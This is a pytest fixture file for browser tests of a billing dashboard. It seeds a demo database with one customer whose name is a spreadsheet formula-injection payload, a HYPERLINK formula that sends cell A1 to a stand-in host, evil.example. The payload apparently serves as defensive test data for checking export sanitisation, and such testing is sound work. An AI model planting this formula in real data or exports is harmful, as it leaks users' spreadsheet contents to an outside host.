import pytest

from tests.browser.server import ARTIFACTS, chromium, dashboard_server

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")'
EVIL_ID = "cus_formula_injection"


@pytest.fixture(scope="session")
def browser_db(tmp_path_factory):
    """A small demo account plus one customer whose name is a spreadsheet formula."""
    from etl.demo import generate_database
    from etl.load import load_objects
    from etl.store import open_working, publish
    path = str(tmp_path_factory.mktemp("browser") / "tally.duckdb")
    generate_database(path, customers=60, seed=11, months=18)
    con = open_working(path)
    load_objects(con, "customers", [{"id": EVIL_ID, "object": "customer", "created": 1767225600,
                                      "name": EVIL_NAME, "email": "mallory@example.com",
                                      "livemode": False, "address": {"country": "US"}}])
    publish(con, path)
    con.close()
    return path


@pytest.fixture(scope="session")
def dashboard_url(browser_db):
    """One dashboard server for the read-only browser tests (no Stripe key: demo mode)."""
    with dashboard_server({"TALLY_DB": browser_db, "STRIPE_API_KEY": ""}) as url:
        yield url


@pytest.fixture(scope="session")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(30_000)
    ARTIFACTS.mkdir(exist_ok=True)
    try:
        yield page
    finally:
        context.close()
